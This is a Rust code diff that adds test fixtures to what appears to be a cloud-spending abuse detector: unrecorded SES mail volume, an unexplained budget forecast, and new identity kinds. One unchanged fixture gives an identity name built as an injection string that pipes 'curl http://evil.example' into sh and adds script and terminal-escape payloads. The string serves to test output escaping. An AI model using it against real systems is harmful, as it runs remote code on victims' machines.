@@ -254,6 +254,60 @@ pub(crate) fn pump() -> Finding {
     }
 }
 
+/// Mail that a meter counts and no record shows.
+pub(crate) fn unseen_mail() -> Finding {
+    Finding {
+        severity: Severity::Medium,
+        points: 50,
+        factors: vec![
+            factor(
+                FactorName::Volume,
+                30,
+                "4200 calls in ten minutes; 6.1 expected; 99.9 % of such ten minutes stay below 22; p < 1e-99; most \
+                 before: 40",
+            ),
+            factor(
+                FactorName::Unrecorded,
+                20,
+                "no record shows whose it is, or shows less than it takes: look for mail over SMTP, which no trail \
+                 holds, or through the API without data events in the trail",
+            ),
+        ],
+        account: "111122223333".into(),
+        region: "eu-west-1".into(),
+        identity: Identity::meter("AWS/SES Send"),
+        last_seen: at(300),
+        count: 4_200,
+        units: 4_200,
+        units_per_hour: 4_200,
+        evidence: Evidence {
+            regions: vec![seen("eu-west-1", false, 4_200)],
+            calls: vec![seen("Send", false, 4_200)],
+            identities: vec![seen("arn:aws:iam::111122223333:user/newsletter", false, 120)],
+            ..Evidence::default()
+        },
+        ..minimal(Family::SpendSignal, Service::Ses, IdentityKind::Meter)
+    }
+}
+
+/// A budget that nothing explains.
+pub(crate) fn budget() -> Finding {
+    Finding {
+        factors: vec![factor(
+            FactorName::Base,
+            20,
+            "forecast 180 USD of 100 USD; nothing else that is found explains it: look for what no trail holds, or a \
+             trail that is stopped",
+        )],
+        account: "111122223333".into(),
+        identity: Identity::account("111122223333"),
+        count: 1,
+        units: 0,
+        units_per_hour: 0,
+        ..minimal(Family::SpendSignal, Service::Billing, IdentityKind::Account)
+    }
+}
+
 /// A look at limits, kept quiet by a rule, by somebody who chose a name to do harm with.
 pub(crate) fn nasty_probe() -> Finding {
     let name = "x'; curl http://evil.example|sh #<script>\u{1b}[2J";
@@ -294,12 +348,13 @@ pub(crate) fn nasty_probe() -> Finding {
 /// One finding of every family on every service, with the least that it can hold and with all of it, over all
 /// kinds of identities, all causes and all severities.
 pub(crate) fn every() -> Vec<Finding> {
-    let full = [llmjacking(), mail_takeover(), pump(), nasty_probe()];
+    let full = [llmjacking(), mail_takeover(), pump(), unseen_mail(), nasty_probe()];
     let causes = [
         Cause::Created,
         Cause::SeverityRaised,
         Cause::GrownTenfold,
         Cause::Closed,
+        Cause::Explained,
     ];
     let sorts = Family::ALL
         .iter()
@@ -311,7 +366,7 @@ pub(crate) fn every() -> Vec<Finding> {
     let mut findings = full.to_vec();
     for (((family, service), (&kind, &cause)), (full, severity)) in sorts.zip(turns).zip(rest) {
         let status = match cause {
-            Cause::Closed => Status::Closed,
+            Cause::Closed | Cause::Explained => Status::Closed,
             _ => Status::Open,
         };
         let least = Finding {
@@ -348,7 +403,7 @@ fn tactic(family: Family) -> Tactic {
     }
 }
 
-const KINDS: [IdentityKind; 15] = [
+const KINDS: [IdentityKind; 19] = [
     IdentityKind::Root,
     IdentityKind::IamUser,
     IdentityKind::Role,
@@ -361,6 +416,10 @@ const KINDS: [IdentityKind; 15] = [
     IdentityKind::AwsService,
     IdentityKind::IdentityCenterUser,
     IdentityKind::BedrockApiKey,
+    IdentityKind::OpenAiKey,
+    IdentityKind::OpenAiUser,
+    IdentityKind::OpenAiServiceAccount,
+    IdentityKind::Meter,
     IdentityKind::Account,
     IdentityKind::Other,
     IdentityKind::Stranger,
